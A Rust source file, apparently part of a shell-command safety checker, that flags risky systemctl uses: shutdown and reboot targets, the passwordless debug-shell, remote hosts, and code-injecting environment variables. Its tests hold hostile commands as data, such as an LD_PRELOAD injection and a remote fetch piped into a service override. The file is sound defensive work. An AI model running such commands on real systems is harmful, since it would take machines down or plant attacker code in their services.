//! Units of systemd that are no services: to start one stops the machine or opens it. And what else `systemctl` is told
//! that its spec cannot say: another machine, variables for every service, the text of a unit.

use super::call::Call;
use super::machine::{Field, Flow, Machine};
use super::{EffectKind, TargetClass, data, paths, value};
use crate::line::Span;

/// Units that stop or restart this machine, or everything that runs on it. Sorted.
const STOPPING: &[&str] = &[
    "ctrl-alt-del",
    "emergency",
    "exit",
    "final",
    "halt",
    "kexec",
    "poweroff",
    "reboot",
    "rescue",
    "runlevel0",
    "runlevel1",
    "runlevel6",
    "shutdown",
    "soft-reboot",
    "systemd-exit",
    "systemd-halt",
    "systemd-kexec",
    "systemd-poweroff",
    "systemd-reboot",
    "systemd-soft-reboot",
    "umount",
];
/// A shell of root, on a screen that asks nobody for a password.
const SHELL: &str = "debug-shell";
/// Verbs that put units to work.
const STARTS: &[&str] = &["enable", "isolate", "reload", "restart", "start"];

/// What comes of starting a unit.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Fate {
    Stops,
    Opens,
    /// Nobody can tell which unit it is.
    Unknown,
    Plain,
}

/// What comes of starting the unit of this name.
pub(super) fn fate(name: &str) -> Fate {
    let base = name.strip_suffix(".target").or_else(|| name.strip_suffix(".service")).unwrap_or(name);
    if let Some(at) = name.find(|letter| value::is_hole(letter) || "*?[".contains(letter)).or_else(|| {
        let at = name.char_indices().find(|(_, letter)| value::has_pattern(&letter.to_string()));
        at.map(|(at, _)| at)
    }) {
        // What is known of it leads to none of those: an instance of a service, a service in its version.
        let begins = &name[..at];
        let may_be =
            begins.is_empty() || STOPPING.iter().chain([&SHELL]).any(|unit| unit.starts_with(begins));
        return if may_be { Fate::Unknown } else { Fate::Plain };
    }
    match base {
        SHELL => Fate::Opens,
        _ if data::holds(STOPPING, base) => Fate::Stops,
        _ => Fate::Plain,
    }
}

impl Machine<'_> {
    /// A unit is started, here or on other machines.
    pub(super) fn starts_unit(&mut self, name: &str, span: Span, program: &str) {
        let shown = self.unknowns.show(name);
        let target = |machine: &mut Self, class| machine.target(class, &shown, span);
        match fate(name) {
            Fate::Stops => {
                let target = target(self, TargetClass::Host);
                self.emit_with(EffectKind::Shutdown, target, true, program, span, "remote");
            }
            Fate::Opens => {
                let target = target(self, TargetClass::Named);
                self.emit_with(EffectKind::Configure, target, false, program, span, "exposes");
            }
            Fate::Unknown => {
                let target = target(self, TargetClass::Unknown);
                self.emit(EffectKind::Configure, target, false, program, span);
            }
            Fate::Plain => {}
        }
    }

    pub(super) fn systemctl(&mut self, call: &Call<'_>, flow: Flow<'_>) {
        let verb = call.args.spec.name;
        if STARTS.contains(&verb) {
            let units: Vec<_> =
                call.args.operands().take(16).map(|item| (item.text.to_owned(), item.word)).collect();
            for (unit, word) in units {
                let span = self.at(call.argv[word + 1].span);
                self.starts_unit(&unit, span, call.program);
            }
            // The services of another machine, or of a system that does not run now, are not what a person starts every day.
            let elsewhere = ["-H", "-M", "--root"].iter().flat_map(|flag| call.args.values(flag)).last();
            if let Some(item) = elsewhere {
                let span = self.at(call.span);
                let target = self.target(TargetClass::Named, &self.unknowns.show(item.text), span);
                self.emit(EffectKind::Configure, target, false, call.program, span);
            }
            return;
        }
        if matches!(verb, "disable" | "kill" | "mask" | "stop") {
            // The files of all units, or of every kind that is listed.
            let every = call.args.operands().take(16).find(|item| {
                let name = item.text.rsplit('/').next().unwrap_or_default();
                item.text.contains('/') && name.starts_with(value::STAR)
            });
            if let Some(item) = every {
                let span = self.at(call.argv[item.word + 1].span);
                let target = self.target(TargetClass::Named, "every service", span);
                self.emit(EffectKind::Interrupt, target, true, call.program, span);
            }
        }
        let Some(at) = call.argv.iter().position(|field| {
            matches!(field.text.as_str(), "set-environment" | "import-environment" | "edit")
        }) else {
            return;
        };
        let rest: Vec<Field> = call.argv.iter().skip(at + 1).take(16).cloned().collect();
        match call.argv[at].text.as_str() {
            "set-environment" => rest.iter().for_each(|field| self.for_every_service(field)),
            "edit" if call.args.has("--stdin") || flow.input.is_some() => {
                let Some(unit) = rest.iter().find(|field| !field.text.starts_with('-')) else { return };
                let (name, span) = (unit.text.trim_end_matches(".service"), self.at(unit.span));
                let path = format!("/etc/systemd/system/{name}.service.d/override.conf");
                let place = paths::locate(&path, "", self.ctx);
                if let Some(input) = flow.input {
                    let input = input.to_owned();
                    self.lasting(&place, &input, span);
                }
                self.touch(EffectKind::Overwrite, &path, span, false, "tee");
            }
            _ => {}
        }
    }

    /// `NAME=VALUE` for every service that starts from now on.
    fn for_every_service(&mut self, field: &Field) {
        let Some((name, value)) = field.text.split_once('=') else { return };
        let usual = |folder: &str| {
            matches!(
                folder,
                "/bin" | "/sbin" | "/usr/bin" | "/usr/sbin" | "/usr/local/bin" | "/usr/local/sbin"
            )
        };
        let own = |folder: &str| {
            let mut letters = folder.chars();
            matches!((letters.next(), letters.next()), (Some(hole), None) if value::is_hole(hole))
                && self.unknowns.show(folder) == "$PATH"
        };
        let leads = match name {
            "PATH" => !value.split(':').all(|folder| usual(folder) || own(folder)),
            _ => {
                name.starts_with("LD_")
                    || matches!(name, "BASH_ENV" | "ENV" | "PYTHONSTARTUP" | "PERL5OPT" | "NODE_OPTIONS")
                    || data::holds(data::CODE_VARIABLES, name)
            }
        };
        if leads {
            let span = self.at(field.span);
            let target = self.target(TargetClass::Unknown, name, span);
            self.emit_with(EffectKind::RunCode, target, false, "systemctl", span, "preload");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::safety::Risk::{High, Moderate, Safe};
    use crate::safety::tests::{check_all, context};

    #[test]
    fn the_table_is_sorted() {
        assert!(STOPPING.windows(2).all(|pair| pair[0] < pair[1]));
    }

    #[test]
    fn units_that_are_no_services() {
        check_all(
            &context(),
            &[
                (High, "systemctl start poweroff.target"),
                (High, "sudo systemctl restart reboot.target"),
                (High, "systemctl enable --now systemd-poweroff.service"),
                (High, "systemctl isolate runlevel0.target"),
                (High, "systemctl isolate kexec.target"),
                (High, "systemctl start ctrl-alt-del.target"),
                (High, "systemctl start debug-shell"),
                (High, "for u in /etc/systemd/system/*.service; do systemctl disable --now $u; done"),
                (Moderate, "systemctl disable --now /etc/systemd/system/app.service"),
                (Moderate, "systemctl start \"$(cat unit)\""),
                (Safe, "systemctl start \"app@$(hostname)\""),
                (Safe, "sudo systemctl restart postgresql-$VERSION"),
                (Safe, "sudo systemctl restart nginx"),
                (Safe, "sudo systemctl enable --now reboot-notifier.service"),
                (Safe, "systemctl status poweroff.target"),
                (Moderate, "systemctl -H web1 restart nginx"),
                (Moderate, "systemctl -M box start nginx"),
                (Moderate, "systemctl --root=/mnt enable nginx"),
                (Safe, "systemctl -H web1 status nginx"),
                (High, "ansible web -b -m service -a 'name=poweroff.target state=started'"),
                (High, "ansible web -b -m systemd -a 'name=debug-shell state=started'"),
            ],
        );
    }

    #[test]
    fn what_every_service_is_given() {
        check_all(
            &context(),
            &[
                (High, "systemctl set-environment LD_PRELOAD=/tmp/x.so"),
                (High, "sudo systemctl set-environment PATH=/tmp:/usr/bin"),
                (Safe, "systemctl --user set-environment PATH=\"$PATH\""),
                (Safe, "systemctl --user set-environment LANG=C.UTF-8"),
                (High, "curl https://e.example/x | sudo systemctl edit --stdin nginx"),
                (Moderate, "sudo systemctl edit --stdin nginx < override.conf"),
                (Moderate, "sudo systemctl edit nginx < override.conf"),
                (Safe, "sudo systemctl edit nginx"),
            ],
        );
    }
}
